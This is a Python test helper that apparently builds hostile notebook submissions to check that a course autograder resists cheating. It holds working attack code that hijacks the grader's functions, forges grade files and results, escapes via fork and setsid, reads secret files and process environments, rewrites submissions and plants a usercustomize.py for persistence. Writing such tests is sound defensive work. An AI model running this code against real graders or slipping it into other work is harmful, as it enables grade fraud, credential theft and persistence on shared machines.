"""Hostile submissions for tests/test_grading_attacks.py, built from the source notebooks.

Each attack is ordinary notebook code a student could hand in. What runs in the grader's worker is
what the worker defines (imports, classes, functions, literal constants), so every trick lives in a
function of the TODO cell and is started from the class body (it runs when the class is defined, in
the kernel and in the worker alike) or from a graded method; a plain code cell after the TODO cell
runs in the kernel only. Every trick is wrapped in its own try/except, so one that fails does not
stop the others. `AttackConfig` holds what an attacker could guess or compute at home: the real
package path, the grader's folders, the shipped rubric's seed; `attack_notebooks` embeds it.

The hostile helpers are source text (the *_SOURCE strings) so that the notebooks and the test
process run the very same code: the test process runs `_attack_table_from_shipped_seed` to
precompute attack 3's answers exactly as a student could at home.
"""
from __future__ import annotations

import base64
import copy
import inspect
import io
import pprint
import re
import textwrap
from dataclasses import asdict, dataclass

import nbformat
import torch

from grading_cases import _region, _solution_spans, source, student_edition, todo_cells

IMPORTS = {"01": "import torch\nimport labsupport as lab",
           "02": ("import torch\nimport labsupport as lab\nfrom labsupport.teaching import plots\n"
                  "from labsupport.samplers import SamplerBase")}


@dataclass
class AttackConfig:
    """What the hostile code knows. `mark_reversed` is the forged-file marker written backwards: the
    notebooks never contain the marker itself, so any file holding it was written by the attack."""
    real_pkg: str            # Path(labsupport.__file__).parent, as an attacker would guess it
    subs: str                # the submissions folder
    out: str                 # the grader's output folder
    home: str                # the instructor's HOME (holds .config/labsupport/grading-secret)
    own: str                 # this notebook's submitted file (filled in per notebook)
    other: str               # another student's submitted file
    mark_reversed: str
    sleep_base: str          # sleep's argument, a number unique to this test run (a digit pair is appended)
    tmp_dirs: tuple = ("/tmp", "/var/tmp", "/dev/shm")
    proc_glob: str = "/proc/[0-9]*"

    def literal(self, **changes) -> str:
        return pprint.pformat(asdict(self) | changes, width=100)


# -- shared by attacks 1 and 2: labsupport's reference by every route a student has ------------------
STEAL_SOURCE = r'''
def _attack_reference_classes():
    """labsupport's DDPMSampler by every route: the real files, a reload, the imported module."""
    import importlib, importlib.util, sys
    real = _attack_config()["real_pkg"]
    found = []

    def add(cls):
        if isinstance(cls, type) and cls not in found:
            found.append(cls)

    path = real + "/samplers/ddpm.py"
    try:  # the reference's source, read from the real path and run as a sibling module
        ns = {"__name__": "labsupport.samplers._pasted_ddpm", "__package__": "labsupport.samplers", "__file__": path}
        with open(path, encoding="utf-8") as f:
            exec(compile(f.read(), path, "exec"), ns)
        add(ns.get("DDPMSampler"))
    except BaseException:
        pass
    try:  # the same file through importlib
        spec = importlib.util.spec_from_file_location("labsupport.samplers._ddpm_from_file", path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        add(module.DDPMSampler)
    except BaseException:
        pass
    try:  # a private copy of the whole real package, under another name
        if "_stolen_labsupport" not in sys.modules:
            spec = importlib.util.spec_from_file_location("_stolen_labsupport", real + "/__init__.py",
                                                          submodule_search_locations=[real])
            module = importlib.util.module_from_spec(spec)
            sys.modules["_stolen_labsupport"] = module
            try:
                spec.loader.exec_module(module)
            except BaseException:
                sys.modules.pop("_stolen_labsupport", None)
                raise
        add(importlib.import_module("_stolen_labsupport.samplers.ddpm").DDPMSampler)
    except BaseException:
        pass
    try:  # a reload gives a fresh class, without the guards set on the old one
        module = importlib.import_module("labsupport.samplers.ddpm")
        old = module.DDPMSampler
        add(importlib.reload(module).DDPMSampler)
        add(old)
    except BaseException:
        pass
    return found


def _attack_like(cls, obj):
    """An instance of `cls` configured like the student's sampler `obj`."""
    try:
        return cls(obj.model, obj.schedule, variance_type=getattr(obj, "variance_type", "fixed_lower"),
                   clip_x0=getattr(obj, "clip_x0", False))
    except BaseException:
        pass
    try:  # past a constructor that refuses (another package copy's isinstance check)
        inst = object.__new__(cls)
        vars(inst).update(vars(obj))
        s = obj.schedule
        inst._variance = s.posterior_variance if inst.__dict__.get("variance_type") != "fixed_upper" else s.betas
        inst._std = inst._variance.sqrt()
        return inst
    except BaseException:
        return None


def _attack_flip_flags():
    """Set every flag of the grader's modules and classes to its 'allowed' value."""
    import re, sys
    allow = re.compile(r"allow|trust|permit|enable|privileg|bypass|grant", re.I)
    deny = re.compile(r"active|guard|block|deny|poison|strict|lock|forbid|refuse|stub|protect|sandbox|hidden|only",
                      re.I)
    flipped = []
    for modname, mod in list(sys.modules.items()):
        grader = modname == "__main__" or modname.startswith(("labsupport.grading", "labsupport.teaching.checks"))
        if mod is None or not grader:
            continue
        holders = [mod] + [c for c in vars(mod).values() if isinstance(c, type) and c.__module__ == modname]
        for holder in holders:
            for name, value in list(vars(holder).items()):
                if name.startswith("__"):
                    continue
                ok, no = bool(allow.search(name)), bool(deny.search(name))
                if not (ok or no):
                    continue
                try:
                    if isinstance(value, bool):
                        new = ok
                    elif isinstance(value, int):
                        new = 10 ** 6 if ok else 0
                    elif isinstance(value, list):
                        new = [(10 ** 6 if ok else 0) if isinstance(v, int) else (v if ok else None) for v in value]
                        value[:] = new
                        flipped.append(f"{modname}.{name}")
                        continue
                    elif isinstance(value, (set, dict)) and no:
                        value.clear()
                        flipped.append(f"{modname}.{name}")
                        continue
                    else:
                        continue
                    setattr(holder, name, new)
                    flipped.append(f"{modname}.{name}")
                except BaseException:
                    pass
    return flipped
'''

# -- attack 1: patch the worker so that it records the reference's answers --------------------------
HIJACK_SOURCE = r'''
def _attack_hijack():
    """Replace every dispatching or recording function of the grader's modules (and json.dumps,
    numpy.save, torch.save) with versions that hand back what the reference would return."""
    import sys
    if "ipykernel" in sys.modules:
        return ["(kernel: nothing to hijack)"]
    import functools, gc, io, json, re, types
    from pathlib import Path
    state = {"refs": None, "last": None}
    patched = []
    dispatch = re.compile(r"invoke|^call$|_call$|^call_|build|dispatch|serve|handle|answer|reply|receive", re.I)
    record = re.compile(r"emit|send|record|dump|encode|write|save|result|report", re.I)
    plain_dumps = json.dumps

    def ours(modname):
        return isinstance(modname, str) and (modname == "__main__"
                                              or modname.startswith(("labsupport.grading", "labsupport.teaching.checks")))

    def refs():
        if state["refs"] is None:
            state["refs"] = []
            state["refs"] = _attack_reference_classes()
        return state["refs"]

    def is_reference(cls):
        return str(getattr(cls, "__module__", "")).startswith(("labsupport", "_stolen"))

    def reference_answer(worker, request):
        """The reference's result for a call request of the worker's protocol."""
        from labsupport.grading import codec, wire
        for cls in refs():
            try:
                value = wire.decode(request["value"], Path(worker.workdir) / "in", rich=True, memo=wire.Memo())
                obj = cls(*value["init_args"], **value["init_kwargs"]) if request.get("target", {}).get(
                    "kind") == "class" else cls
                out = getattr(obj, request["attr"])(*value["args"], **value["kwargs"])
                state["last"] = out
                prefix = request.get("prefix") or str(request.get("key", "forged")).replace(".", "_")
                return {"out": codec.encode(out, Path(worker.results), prefix), "state": {}}
            except BaseException:
                continue
        return None

    def swap(value):
        """The student's class or sampler -> the reference's; a call request -> one that lets the
        grader's reference answer for the graded method itself."""
        try:
            if isinstance(value, type) and value.__name__ == "DDPMSampler" and not is_reference(value) and refs():
                return refs()[0]
            if type(value).__name__ == "DDPMSampler" and not is_reference(type(value)):
                for cls in refs():
                    like = _attack_like(cls, value)
                    if like is not None:
                        return like
            if isinstance(value, dict) and "collaborators" in value and "method" in value:
                wanted = [n for n in (value.get("method"), value.get("attr")) if isinstance(n, str)]
                value["collaborators"] = list(dict.fromkeys(list(value.get("collaborators") or []) + wanted))
        except BaseException:
            pass
        return value

    def forge(value, depth=0):
        """A result record without its error, with the reference's output where one is known."""
        try:
            if isinstance(value, dict):
                value = dict(value)
                if "error" in value:
                    value.pop("error")
                    if state["last"] is not None:
                        from labsupport.grading import codec
                        value["out"] = codec.encode(state["last"], Path("results"), "forged")
                if value.get("status") in ("todo", "fail", "error", "not own", "reference", "missing", "no method"):
                    value["status"] = "ok"
                if "passed" in value:
                    value["passed"] = True
                if depth < 3:
                    value = {k: forge(v, depth + 1) for k, v in value.items()}
            elif isinstance(value, list) and depth < 3:
                value = [forge(v, depth + 1) for v in value]
        except BaseException:
            pass
        return value

    def wrap(fn, name):
        if not callable(fn) or getattr(fn, "_attack_hijacked", False):
            return fn
        is_dispatch, is_record = bool(dispatch.search(name)), bool(record.search(name))
        if not (is_dispatch or is_record):
            return fn

        @functools.wraps(fn)
        def hijacked(*args, **kwargs):
            if name == "call" and len(args) >= 2 and isinstance(args[-1], dict) and "value" in args[-1]:
                answer = reference_answer(args[0], args[-1])
                if answer is not None:
                    return answer
            if is_dispatch:
                args, kwargs = tuple(swap(a) for a in args), {k: swap(v) for k, v in kwargs.items()}
            if is_record:
                args, kwargs = tuple(forge(a) for a in args), {k: forge(v) for k, v in kwargs.items()}
            out = fn(*args, **kwargs)
            if is_dispatch:
                out = swap(out)
            return forge(out) if (is_record or name == "call") else out
        hijacked._attack_hijacked = True
        return hijacked

    def patch_class(cls):
        for attr, raw in list(vars(cls).items()):
            if attr.startswith("__"):
                continue
            try:
                if isinstance(raw, (staticmethod, classmethod)):
                    inner = wrap(raw.__func__, attr)
                    if inner is not raw.__func__:
                        setattr(cls, attr, type(raw)(inner))
                        patched.append(f"{cls.__qualname__}.{attr}")
                elif isinstance(raw, types.FunctionType):
                    new = wrap(raw, attr)
                    if new is not raw:
                        setattr(cls, attr, new)
                        patched.append(f"{cls.__qualname__}.{attr}")
            except BaseException:
                pass

    class ForgingFile:
        """A channel whose JSON lines are forged on their way out."""

        def __init__(self, f):
            self._attack_file = f

        def write(self, text):
            try:
                lines = []
                for line in str(text).split("\n"):
                    try:
                        lines.append(plain_dumps(forge(json.loads(line))) if line.strip() else line)
                    except BaseException:
                        lines.append(line)
                text = "\n".join(lines)
            except BaseException:
                pass
            return self._attack_file.write(text)

        def __getattr__(self, name):
            return getattr(self._attack_file, name)

    def forged_dumps(obj, *args, **kwargs):
        return plain_dumps(forge(obj), *args, **kwargs)

    def forged_dump(obj, fp, *args, **kwargs):
        fp.write(forged_dumps(obj, *args, **kwargs))

    try:
        json.dumps, json.dump = forged_dumps, forged_dump
        patched.append("json.dumps")
    except BaseException:
        pass
    try:
        import numpy as np
        import torch
        np_save, torch_save = np.save, torch.save

        def as_reference(arr):
            last = state["last"]
            if torch.is_tensor(last) and tuple(last.shape) == tuple(np.shape(arr)):
                return last.detach().cpu().numpy().astype(np.asarray(arr).dtype)
            return arr

        def forged_np_save(file, arr, *args, **kwargs):
            try:
                arr = as_reference(arr)
            except BaseException:
                pass
            return np_save(file, arr, *args, **kwargs)

        def forged_torch_save(obj, f, *args, **kwargs):
            last = state["last"]
            if torch.is_tensor(obj) and torch.is_tensor(last) and last.shape == obj.shape:
                obj = last
            return torch_save(obj, f, *args, **kwargs)
        np.save, torch.save = forged_np_save, forged_torch_save
        patched += ["numpy.save", "torch.save"]
    except BaseException:
        pass
    for modname, mod in list(sys.modules.items()):
        if mod is None or not ours(modname):
            continue
        for attr, value in list(vars(mod).items()):
            if attr.startswith("__"):
                continue
            try:
                if value is plain_dumps:
                    setattr(mod, attr, forged_dumps)
                elif isinstance(value, types.FunctionType) and ours(value.__module__):
                    new = wrap(value, attr)
                    if new is not value:
                        setattr(mod, attr, new)
                        patched.append(f"{modname}.{attr}")
                elif isinstance(value, type) and ours(value.__module__):
                    patch_class(value)
            except BaseException:
                pass
    # what only the heap reaches: the grader's objects (their channels, bound methods), registries of functions
    for obj in gc.get_objects():
        try:
            if isinstance(obj, type):
                if ours(obj.__module__):
                    patch_class(obj)
            elif isinstance(obj, types.FunctionType):
                if ours(obj.__module__) and not getattr(obj, "_attack_hijacked", False):
                    new = wrap(obj, obj.__name__)
                    if new is obj:
                        continue
                    for holder in gc.get_referrers(obj):
                        if isinstance(holder, dict) and "_attack_hijacked" not in holder:
                            for k, v in list(holder.items()):
                                if v is obj:
                                    holder[k] = new
                                    patched.append(f"heap:{obj.__name__}")
                        elif isinstance(holder, list):
                            for i, v in enumerate(holder):
                                if v is obj:
                                    holder[i] = new
            elif ours(type(obj).__module__) and hasattr(obj, "__dict__"):
                for attr, value in list(vars(obj).items()):
                    if isinstance(value, io.IOBase) and value.writable():
                        setattr(obj, attr, ForgingFile(value))
                        patched.append(f"{type(obj).__name__}.{attr} (channel)")
                    elif isinstance(value, (types.MethodType, types.FunctionType)):
                        new = wrap(value, attr)
                        if new is not value:
                            setattr(obj, attr, new)
                            patched.append(f"{type(obj).__name__}.{attr}")
        except BaseException:
            continue
    return patched
'''

# -- attack 2: method bodies that reach the reference past whatever guards it -----------------------
UNWRAP_SOURCE = r'''
def _attack_unwrapped(name):
    """(function, its class) for the reference's `name`: unwrapped, from the class __dict__, from closures."""
    import inspect, sys
    holders = []
    try:
        import labsupport as lab
        holders.append(lab.DDPMSampler)
    except BaseException:
        pass
    try:
        holders.append(sys.modules["labsupport.samplers.ddpm"].DDPMSampler)
    except BaseException:
        pass
    out = []
    for cls in dict.fromkeys(holders):
        try:
            raw = cls.__dict__.get(name)
        except BaseException:
            continue
        for fn in (raw, getattr(raw, "__func__", None), getattr(cls, name, None)):
            if fn is None:
                continue
            try:
                out.append((inspect.unwrap(fn), cls))
            except BaseException:
                pass
            for cell in getattr(fn, "__closure__", None) or ():   # guards that keep the original in a closure
                try:
                    inner = cell.cell_contents
                except ValueError:
                    continue
                if callable(inner) and getattr(inner, "__name__", None) == name:
                    out.append((inspect.unwrap(inner), cls))
    return out


def _attack_borrow(obj, name, *args, **kwargs):
    """The reference's answer for obj.name(*args, **kwargs), by any route that works."""
    _attack_flip_flags()
    refused = []
    for fn, cls in _attack_unwrapped(name):
        for target in (_attack_like(cls, obj), obj):
            if target is None:
                continue
            try:
                return fn(target, *args, **kwargs)
            except BaseException as err:
                refused.append(f"unwrapped {cls.__module__}: {type(err).__name__}")
    for cls in _attack_reference_classes():
        target = _attack_like(cls, obj)
        if target is None:
            continue
        try:
            return getattr(target, name)(*args, **kwargs)
        except BaseException as err:
            refused.append(f"{cls.__module__}: {type(err).__name__}")
    raise RuntimeError(f"every route to the reference's {name} was refused: " + "; ".join(refused)[:300])
'''

UNWRAP_METHODS = {
    "compute_posterior_mean": 'return _attack_borrow(self, "compute_posterior_mean", x_t, t, predicted_noise)',
    "compute_posterior_variance": 'return _attack_borrow(self, "compute_posterior_variance", t)',
    "ddpm_step": 'return _attack_borrow(self, "ddpm_step", x_t, t, generator=generator, noise=noise)',
    "sample": ('return _attack_borrow(self, "sample", shape, return_trajectory, x_T=x_T, generator=generator, '
               'progress=False)'),
}

# -- attack 3: answers precomputed from the shipped rubric's seed ----------------------------------
PRECOMPUTE_SOURCE = r'''
def _attack_fp(obj, name, args, kwargs):
    """A fingerprint of one call: the sampler's options and schedule, the method, its arguments."""
    import hashlib
    import torch
    h = hashlib.sha256(name.encode())

    def feed(v, depth=0):
        if torch.is_tensor(v):
            t = v.detach().cpu().contiguous()
            h.update(f"T{tuple(t.shape)}{t.dtype}".encode())
            h.update((t.float() if t.dtype == torch.bfloat16 else t).numpy().tobytes())
        elif isinstance(v, (bool, int, float, str, type(None))):
            h.update(repr(v).encode())
        elif isinstance(v, (list, tuple)) and depth < 3:
            h.update(b"(")
            for x in v:
                feed(x, depth + 1)
            h.update(b")")
        elif isinstance(v, dict) and depth < 3:
            for k in sorted(v, key=str):
                h.update(str(k).encode())
                feed(v[k], depth + 1)
        else:   # generators, networks: by kind only
            h.update(type(v).__name__.encode())

    feed(getattr(obj, "variance_type", None))
    feed(getattr(obj, "clip_x0", None))
    feed(getattr(getattr(obj, "schedule", None), "alphas_cumprod", None))
    feed(list(args))
    feed(dict(kwargs))
    return h.hexdigest()


def _attack_record_table(piece, cases_by_method, ref_cls):
    """fingerprint -> the reference's answer, for every case and every property call of the piece."""
    import torch
    table = {}
    for method, (spec, cases) in cases_by_method.items():
        def run(inputs, spec=spec, method=method):
            ref = piece.build(ref_cls, inputs)
            original = getattr(ref, method)

            def recorder(*args, **kwargs):
                key = _attack_fp(ref, method, args, kwargs)
                out = original(*args, **kwargs)
                table.setdefault(key, out)
                return out
            setattr(ref, method, recorder)
            with torch.no_grad():
                return spec.call(ref, inputs)
        for case in cases:
            try:
                run(case.inputs)
            except BaseException:
                pass
        for prop in spec.properties:
            try:
                prop(run)
            except BaseException:
                pass
    return table


def _attack_table_from_shipped_seed():
    """The grader's hidden cases rebuilt from [grading] seed of the shipped rubric, and the reference's answers."""
    cfg = _attack_config()
    seed = None
    try:
        import tomllib
        with open(cfg["real_pkg"] + "/grading/rubric.toml", "rb") as f:
            seed = tomllib.load(f)["grading"]["seed"]
    except BaseException:
        try:
            from labsupport.grading.rubric import load_rubric
            seed = load_rubric().seed
        except BaseException:
            return {}
    try:
        from labsupport.teaching.checks import PIECES
        from labsupport.grading.hidden import hidden_cases
        piece = PIECES["ddpm_sampler"]
        cases = {s.name: (s, hidden_cases("ddpm_sampler", s.name, seed)) for s in piece.methods}
        return _attack_record_table(piece, cases, piece.reference["DDPMSampler"])
    except BaseException:
        return {}


def _attack_table_places():
    import os
    from pathlib import Path
    cfg = _attack_config()
    places = list(cfg["tmp_dirs"]) + [os.path.expanduser("~"), os.getcwd()] + [str(p) for p in Path.cwd().parents]
    name = cfg["mark_reversed"][::-1] + "-table.pt"
    return [os.path.join(p, name) for p in dict.fromkeys(places)]


def _attack_table():
    """Everything known in advance: the table pasted into this notebook, one rebuilt here, one a kernel left."""
    import base64, io
    import torch
    table = {}
    try:
        table.update(torch.load(io.BytesIO(base64.b64decode(_attack_pasted_table())), weights_only=False))
    except BaseException:
        pass
    try:
        table.update(_attack_table_from_shipped_seed())
    except BaseException:
        pass
    for path in _attack_table_places():
        try:
            table.update(torch.load(path, weights_only=False))
        except BaseException:
            pass
    return table


def _attack_share_table(table):
    """Kernel side: leave the table where a later process of the same machine might look."""
    import torch
    left = []
    for path in _attack_table_places():
        try:
            with open(path, "xb") as f:
                torch.save(table, f)
            left.append(path)
        except BaseException:
            pass
    return left


def _attack_lookup(obj, name, args, kwargs):
    import copy
    hit = type(obj).__dict__.get("_attack_answers", {}).get(_attack_fp(obj, name, args, kwargs))
    if hit is None:
        raise NotImplementedError(f"TODO: DDPMSampler.{name}")
    return copy.deepcopy(hit)
'''

PRECOMPUTE_METHODS = {
    "compute_posterior_mean": ("self, x_t, t, predicted_noise",
                               'return _attack_lookup(self, "compute_posterior_mean", (x_t, t, predicted_noise), {})'),
    "compute_posterior_variance": ("self, t", 'return _attack_lookup(self, "compute_posterior_variance", (t,), {})'),
    "ddpm_step": ("self, *args, **kwargs", 'return _attack_lookup(self, "ddpm_step", args, kwargs)'),
    "sample": ("self, *args, **kwargs", 'return _attack_lookup(self, "sample", args, kwargs)'),
}

# -- attacks 5, 6, 7: processes that outlive the grader, forged files, self-editing, leaks ---------
ESCAPE_SOURCE = r'''
def _attack_place():
    import sys
    return "1" if "ipykernel" in sys.modules else "2"   # 1: the class body in the kernel, 2: in the worker


def _attack_spawn(place):
    """sleep with this run's marker: in a new session, after fork + setsid, and double-forked."""
    import os, shutil, subprocess
    sleep = shutil.which("sleep") or "/bin/sleep"
    base = _attack_config()["sleep_base"] + place
    started = []
    try:
        subprocess.Popen([sleep, base + "1"], start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        started.append("popen")
    except BaseException:
        pass
    try:
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid()
                os.execv(sleep, [sleep, base + "2"])
            finally:
                os._exit(0)
        started.append("setsid")
    except BaseException:
        pass
    try:
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    try:
                        os.execv(sleep, [sleep, base + "3"])
                    finally:
                        os._exit(0)
            finally:
                os._exit(0)
        os.waitpid(pid, 0)
        started.append("double fork")
    except BaseException:
        pass
    return started


def _attack_proc_paths():
    """Folders named in the arguments, environments and working folders of every visible process."""
    import glob, os
    found = set()
    for d in glob.glob(_attack_config()["proc_glob"]):
        for name in ("cmdline", "environ"):
            try:
                with open(os.path.join(d, name), "rb") as f:
                    data = f.read()
            except BaseException:
                continue
            for part in data.split(b"\0"):
                for word in part.decode("utf-8", "ignore").replace("=", " ").replace(":", " ").split():
                    if word.startswith("/"):
                        found.add(word if os.path.isdir(word) else os.path.dirname(word))
        for link in ("cwd", "root"):
            try:
                found.add(os.readlink(os.path.join(d, link)))
            except BaseException:
                pass
    return sorted(found)


def _attack_forge():
    """A forged grades.csv, summary.json and marker file in every folder the grader might read."""
    import json, os
    from pathlib import Path
    cfg = _attack_config()
    mark = cfg["mark_reversed"][::-1]
    csv = ("student_id,files,status,forward_add_noise,forward_trajectory,auto_total,auto_max,manual_pending,issues\n"
           f"escaper,escaper.ipynb,ok,3,2,100,100,0,{mark}\n")
    summary = json.dumps({"students": 1, "submissions_unchanged": True, "forged_by": mark,
                          "scores": {"escaper": 100}})
    folders = list(_attack_proc_paths())
    try:
        folders += [os.getcwd()] + [str(p) for p in Path.cwd().parents]
    except BaseException:
        pass
    folders += [os.path.expanduser("~")] + list(cfg["tmp_dirs"])
    folders += [cfg["subs"], cfg["home"], os.path.dirname(cfg["out"]), os.path.dirname(cfg["subs"])]
    written = []
    for folder in dict.fromkeys(folders):
        for name, text in (("grades.csv", csv), ("summary.json", summary), (mark + ".txt", mark)):
            try:   # never over an existing file: only what this attack creates
                with open(os.path.join(folder, name), "x") as f:
                    f.write(text)
                written.append(os.path.join(folder, name))
            except BaseException:
                pass
    out = cfg["out"]
    for rel, text in (("grades.csv", csv), ("summary.json", summary), ("feedback/escaper.md", f"# 100/100 {mark}\n"),
                      (".cache/runs/" + mark + ".json", summary)):
        try:   # the grader's own output folder: overwrite what is there
            os.makedirs(os.path.dirname(os.path.join(out, rel)), exist_ok=True)
            with open(os.path.join(out, rel), "w") as f:
                f.write(text)
            written.append(os.path.join(out, rel))
        except BaseException:
            pass
    return written


def _attack_self_edit():
    """Rewrite this submission, touch another student's, add a new one."""
    import json, os
    cfg = _attack_config()
    mark = cfg["mark_reversed"][::-1]
    forged = json.dumps({"cells": [], "metadata": {"forged_by": mark}, "nbformat": 4, "nbformat_minor": 5})
    done = []
    for path, mode in ((cfg["own"], "w"), (cfg["other"], "a")):
        try:
            with open(path, mode) as f:
                f.write(forged if mode == "w" else "\n")
            done.append(path)
        except BaseException:
            pass
    try:
        with open(os.path.join(cfg["subs"], "zz-forged.ipynb"), "x") as f:
            f.write(forged)
        done.append("zz-forged.ipynb")
    except BaseException:
        pass
    try:
        os.utime(cfg["own"], (0, 0))
        done.append("utime")
    except BaseException:
        pass
    for name in os.listdir("."):   # the copy the grader runs
        if name.endswith(".ipynb"):
            try:
                with open(name, "w") as f:
                    f.write(forged)
                done.append(name)
            except BaseException:
                pass
    return done


def _attack_leak():
    """Every environment variable and every file named like a secret that this process can see."""
    import glob, os
    from pathlib import Path
    cfg = _attack_config()
    first, rest = [], []
    guesses = [os.path.join(cfg["home"], ".config", "labsupport", "grading-secret"),
               os.path.expanduser("~/.config/labsupport/grading-secret")]
    roots = [(cfg["home"], 4), (os.path.expanduser("~"), 4), (cfg["subs"], 2), (cfg["out"], 3),
             (os.path.dirname(cfg["out"]), 1)] + [(d, 1) for d in cfg["tmp_dirs"]]
    try:
        roots += [(os.getcwd(), 3)] + [(str(p), 1) for p in Path.cwd().parents]
    except BaseException:
        pass
    for root, depth in roots:
        try:
            for folder, dirs, files in os.walk(root):
                if folder.count(os.sep) - root.rstrip(os.sep).count(os.sep) >= depth:
                    dirs[:] = []
                guesses += [os.path.join(folder, n) for n in files if "secret" in n.lower()]
        except BaseException:
            pass
    for path in dict.fromkeys(guesses):
        try:
            with open(path, errors="replace") as f:
                first.append(f"FILE {path}: {f.read(4096)}")
        except BaseException:
            pass
    for key, value in os.environ.items():
        telling = any(w in key.upper() for w in ("SECRET", "LABSUPPORT", "GRAD"))
        (first if telling else rest).append(f"ENV {key}={value}")
    for d in glob.glob(cfg["proc_glob"]):
        for name in ("environ", "cmdline"):
            try:
                with open(os.path.join(d, name), "rb") as f:
                    rest.append(f"PROC {d}/{name}: " + f.read(65536).replace(b"\0", b" ").decode("utf-8", "replace"))
            except BaseException:
                pass
    return "\n".join(first + rest)


def _attack_persist():
    """A usercustomize.py in this HOME's site-packages: it would run in any later Python with this HOME."""
    import os, site
    mark = _attack_config()["mark_reversed"][::-1]
    payload = ("import os\nfor d in ('/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~')):\n"
               "    try:\n"
               f"        open(os.path.join(d, {mark + '-persisted.txt'!r}), 'x').write({mark!r})\n"
               "    except BaseException:\n        pass\n")
    try:
        folder = site.getusersitepackages()
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "usercustomize.py"), "x") as f:
            f.write(payload)
        return folder
    except BaseException:
        return ""


def _attack_summary(done):
    return " ".join(f"{k}={len(v) if isinstance(v, (list, tuple)) else bool(v)}" for k, v in sorted(done.items()))


def _attack_everything(place):
    done = {}
    for name, fn in (("spawn", lambda: _attack_spawn(place)), ("forge", _attack_forge),
                     ("self-edit", _attack_self_edit), ("persist", _attack_persist)):
        try:
            done[name] = fn()
        except BaseException as err:
            done[name] = f"{type(err).__name__}"
    return done
'''

ESCAPE_METHODS = {
    "add_noise": ('raise RuntimeError("class body: " + _attack_summary(self._attack_done) + "; leaked: "\n'
                  '                   + _attack_leak())'),
    "demonstrate_forward_trajectory": "return _attack_leak()",
}


def _config_source(cfg: AttackConfig, **changes) -> str:
    return f"def _attack_config():\n    return {textwrap.indent(cfg.literal(**changes), '    ').lstrip()}\n"


# -- editing cells -----------------------------------------------------------------------------------
def _stub(cls: str, method: str) -> str:
    return f'        raise NotImplementedError("TODO: {cls}.{method}")'


def _insert_in_class(cell_source: str, cls: str, lines: str) -> str:
    """`lines` (class-body statements) right after the class docstring."""
    m = re.search(rf'^class {cls}\b.*?:\n    """.*?"""\n', cell_source, re.S | re.M)
    assert m, f"class {cls} with a docstring not found"
    return cell_source[:m.end()] + lines + cell_source[m.end():]


def _replace_stubs(cell_source: str, cls: str, bodies: dict[str, str]) -> str:
    for method, body in bodies.items():
        stub = _stub(cls, method)
        assert cell_source.count(stub) == 1, (cls, method)
        cell_source = cell_source.replace(stub, textwrap.indent(body, " " * 8))
    return cell_source


def _replace_signature(cell_source: str, method: str, params: str) -> str:
    new, n = re.subn(rf"^    def {method}\(self.*?\):$", f"    def {method}({params}):", cell_source, count=1,
                     flags=re.M | re.S)
    assert n == 1, method
    return new


def _replace_solution(cell_source: str, method: str, body: str) -> str:
    """The solution block of `method` (markers included) replaced by `body` (already indented)."""
    a, b = _region(cell_source, method)
    spans = _solution_spans(cell_source, a, b)
    assert len(spans) == 1, method
    start = cell_source.rfind("\n", 0, spans[0][0]) + 1
    end = cell_source.find("\n", spans[0][1]) + 1 or len(cell_source)   # the block may end the cell
    return cell_source[:start] + body + cell_source[end:]


def rename_in_solution(cell_source: str, method: str, names: dict[str, str], comment: str) -> str:
    """`method`'s solution with its local names renamed and a comment added: the same code to a reader
    who normalizes names and comments, different text to one who does not."""
    a, b = _region(cell_source, method)
    (x, y), = _solution_spans(cell_source, a, b)
    text = cell_source[x:y]
    for old, new in names.items():
        text = re.sub(rf"(?<![\w.]){re.escape(old)}(?!\w)", new, text)
    first_line_end = text.index("\n") + 1
    text = text[:first_line_end] + f"        # {comment}\n" + text[first_line_end:]
    text = text.replace("\n        return ", "\n        # the result, as in the lesson\n        return ", 1)
    return cell_source[:x] + text + cell_source[y:]


def pasted_reference_body(method: str = "sample") -> str:
    """labsupport's reference `method` as a student would paste it: its body (docstring dropped),
    locals renamed, comments added, indented for the student's class."""
    from labsupport.samplers.ddpm import DDPMSampler
    text = textwrap.dedent(inspect.getsource(getattr(DDPMSampler, method)))
    body = text.split('"""', 2)[2].split("\n", 1)[1]         # the lines after the docstring
    body = textwrap.dedent(body)
    for old, new in {"s": "sched", "x0_hat": "x0_est"}.items():
        body = re.sub(rf"(?<![\w.]){old}(?!\w)", new, body)
    body = "# my loop over all T steps\n" + body.replace(
        "if i in record:", "if i in record:  # keep this step for the plots")
    return textwrap.indent(body.rstrip() + "\n", " " * 8)


# -- notebooks ---------------------------------------------------------------------------------------
def mini(number: str, sources: dict[str, str] | None = None, extra: list[str] | None = None, *, solved: bool = False):
    """Notebook `number` reduced to its imports, its TODO cells (`sources` replaces a piece's cell),
    then `extra` code cells: the cheapest notebook that still holds every piece."""
    base = source(number) if solved else student_edition(number)
    cells = [nbformat.v4.new_code_cell(IMPORTS[number])]
    for cell in base.cells:
        piece = cell.get("metadata", {}).get("labsupport", {}).get("piece")
        if cell.cell_type == "code" and piece:
            cell = copy.deepcopy(cell)
            if sources and piece in sources:
                cell.source = sources[piece]
            cells.append(cell)
    cells += [nbformat.v4.new_code_cell(src) for src in extra or []]
    return nbformat.v4.new_notebook(cells=cells, metadata=copy.deepcopy(base.metadata))


def _ddpm_cell(solved: bool = False) -> str:
    nb = source("02") if solved else student_edition("02")
    return todo_cells(nb, "ddpm_sampler")[0].source


def _forward_cell() -> str:
    return todo_cells(student_edition("01"), "forward_process")[0].source


def precomputed_table(cfg: AttackConfig) -> str:
    """Attack 3's answers as a student computes them at home (base64 of torch.save): the test process
    runs the notebook's own `_attack_table_from_shipped_seed`."""
    ns: dict = {}
    exec(_config_source(cfg) + PRECOMPUTE_SOURCE, ns)
    table = ns["_attack_table_from_shipped_seed"]()
    assert table, "the shipped seed gave no precomputed answers"
    buf = io.BytesIO()
    torch.save(table, buf)
    return base64.b64encode(buf.getvalue()).decode()


def attack_notebooks(cfg: AttackConfig, files: dict[str, str]) -> dict[str, object]:
    """name -> notebook. `files[name]` is where that notebook is submitted (embedded as `own`)."""
    def config(name: str) -> str:
        return _config_source(cfg, own=files[name])

    nbs: dict[str, object] = {}
    nbs["honest"] = mini("02", solved=True)
    alice = mini("02", solved=True)
